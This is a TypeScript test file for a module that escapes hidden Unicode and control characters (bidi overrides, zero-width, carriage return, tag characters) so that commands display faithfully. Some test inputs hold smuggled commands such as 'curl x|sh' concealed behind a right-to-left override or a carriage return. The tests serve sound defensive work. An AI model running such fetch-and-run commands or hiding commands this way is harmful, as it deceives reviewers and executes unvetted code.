import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeFor, hasHiddenCharacters, hasHiddenDeep, hiddenKind, hiddenNamesDeep, visibleJson, visibleSegments, visibleText } from './visibleText.ts';

/** The classes the issue names, written out independently of the module's table. */
function mustEscape(cp: number): boolean {
  if (cp === 0x09 || cp === 0x0a) return false;
  if (cp <= 0x1f || (cp >= 0x7f && cp <= 0x9f)) return true; // C0, DEL, C1
  if (cp === 0x061c || cp === 0x200e || cp === 0x200f || (cp >= 0x202a && cp <= 0x202e) || (cp >= 0x2066 && cp <= 0x2069)) return true; // bidi
  if ((cp >= 0x200b && cp <= 0x200d) || (cp >= 0x2060 && cp <= 0x2064) || cp === 0xfeff || cp === 0x00ad || cp === 0x180e || cp === 0x034f) return true; // zero-width
  if (cp >= 0xe0000 && cp <= 0xe007f) return true; // tags
  if ((cp >= 0xfe00 && cp <= 0xfe0f) || (cp >= 0xe0100 && cp <= 0xe01ef)) return true; // variation selectors
  if (cp >= 0xd800 && cp <= 0xdfff) return true; // surrogates (lone, once in a string)
  return false;
}

/** Every code point (lone surrogates included) of a string, as the module reads it. */
function codePoints(s: string): number[] {
  const out: number[] = [];
  for (let i = 0; i < s.length; i++) {
    const u = s.charCodeAt(i);
    const n = s.charCodeAt(i + 1);
    if (u >= 0xd800 && u <= 0xdbff && n >= 0xdc00 && n <= 0xdfff) {
      out.push(0x10000 + ((u - 0xd800) << 10) + (n - 0xdc00));
      i++;
    } else out.push(u);
  }
  return out;
}

const hiddenSamples = [
  0x00, 0x07, 0x0d, 0x1b, 0x7f, 0x85, 0x9b, 0x061c, 0x200b, 0x200e, 0x202e, 0x2066, 0x2069, 0x2060, 0x2064, 0xfeff, 0x00ad, 0x180e, 0x034f, 0xe0001, 0xe0041,
  0xe007f, 0xfe0f, 0xe0100, 0x2028, 0x00a0,
];
/** Strings mixing plain text, the characters above, lone surrogates and any Unicode. */
const anyText = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom(...hiddenSamples).map((cp) => String.fromCodePoint(cp)),
      fc.constantFrom('\uD800', '\uDBFF', '\uDC00', '\uDFFF'),
      fc.string({ unit: 'binary' }),
      fc.constantFrom('\t', '\n', 'ls -la ', '; curl x|sh #', '\\u202E'),
    ),
  )
  .map((parts) => parts.join(''));

describe('visible text', () => {
  it('SEE-1: the RLO trick and a carriage return are shown as escapes, flagged', () => {
    const rlo = visibleText('ls -la \u202e; curl x|sh #');
    expect(rlo).toEqual({ text: 'ls -la \\u202E; curl x|sh #', hidden: true });
    const cr = visibleText('git status \r#; touch /tmp/x');
    expect(cr).toEqual({ text: 'git status \\r#; touch /tmp/x', hidden: true });
    expect(visibleText('\x1b[2J\x00\x7f\x9b')).toEqual({ text: '\\x1b[2J\\x00\\x7f\\x9b', hidden: true });
    expect(visibleText('a\u{E0041}b\uD800c')).toEqual({ text: 'a\\u{E0041}b\\uD800c', hidden: true });
  });

  it('SEE-1: tab, newline and printable text of any script are kept as they are, unflagged', () => {
    for (const s of ['', 'ls -la', 'a\tb\nc', 'écho ünïcode', 'שלום עולם', 'مرحبا', '日本語', 'emoji 🙂', '\\u202E typed as text']) {
      expect(visibleText(s)).toEqual({ text: s, hidden: false });
      expect(hasHiddenCharacters(s)).toBe(false);
    }
  });

  it('SEE-1: segments name each escaped character and why', () => {
    expect(visibleSegments('a\u202eb')).toEqual([
      { kind: 'text', text: 'a' },
      { kind: 'escape', text: '\\u202E', codePoint: 0x202e, why: 'bidi', name: 'U+202E RIGHT-TO-LEFT OVERRIDE' },
      { kind: 'text', text: 'b' },
    ]);
    expect(visibleSegments('\r')[0]).toMatchObject({ why: 'control', name: 'U+000D CARRIAGE RETURN' });
    expect(visibleSegments('\uDC00')[0]).toMatchObject({ why: 'surrogate' });
    expect(visibleSegments('x\u00a0y')[1]).toMatchObject({ why: 'space', text: '\\u00A0' });
  });

  it('SEE-1: the warning names what was found, in keys and values, each once', () => {
    expect(hiddenNamesDeep({ command: 'a\u202eb\u202e', ['k\r']: ['\u200b'] })).toEqual([
      'U+202E RIGHT-TO-LEFT OVERRIDE',
      'U+000D CARRIAGE RETURN',
      'U+200B ZERO WIDTH SPACE',
    ]);
    expect(hiddenNamesDeep({ command: 'ls -la', n: 1, nested: [{ x: 'שלום' }] })).toEqual([]);
    expect(hiddenNamesDeep('\x01\x02\x03\x04\x05\x06\x07', 3)).toHaveLength(3);
  });

  it('SEE-1 (property): the output holds no character of the hidden classes, and equals the input when it had none', () => {
    fc.assert(
      fc.property(anyText, (s) => {
        const out = visibleText(s);
        // None of the classes is left, nor of the module's own (it escapes a few more look-alike spaces).
        const left = codePoints(out.text).filter((cp) => mustEscape(cp) || hiddenKind(cp) !== null);
        expect(left, JSON.stringify(out.text)).toEqual([]);
        const had = codePoints(s).some((cp) => hiddenKind(cp) !== null);
        expect(out.hidden).toBe(had);
        if (!had) expect(out.text).toBe(s);
        if (!codePoints(s).some(mustEscape)) expect(out.text === s).toBe(!had);
      }),
      { numRuns: 2000 },
    );
  });

  it('SEE-1 (property): every code point of U+0000..U+10FFFF named by the issue is escaped', () => {
    for (let cp = 0; cp <= 0x10ffff; cp++) {
      if (mustEscape(cp)) expect(hiddenKind(cp), `U+${cp.toString(16)}`).not.toBeNull();
    }
    expect(escapeFor(0x0d)).toBe('\\r');
    expect(escapeFor(0x1b)).toBe('\\x1b');
  });

  it('SEE-1 (property): visibleJson shows no hidden character and parses back to the same value', () => {
    fc.assert(
      fc.property(fc.dictionary(anyText, fc.oneof(anyText, fc.array(anyText), fc.integer())), (value) => {
        const json = visibleJson(value);
        expect(hasHiddenCharacters(json)).toBe(false);
        expect(JSON.parse(json)).toEqual(value);
        expect(hasHiddenDeep(value)).toBe(
          Object.entries(value).some(([k, v]) => hasHiddenCharacters(k) || [v].flat().some((x) => typeof x === 'string' && hasHiddenCharacters(x))),
        );
      }),
      { numRuns: 500 },
    );
  });
});
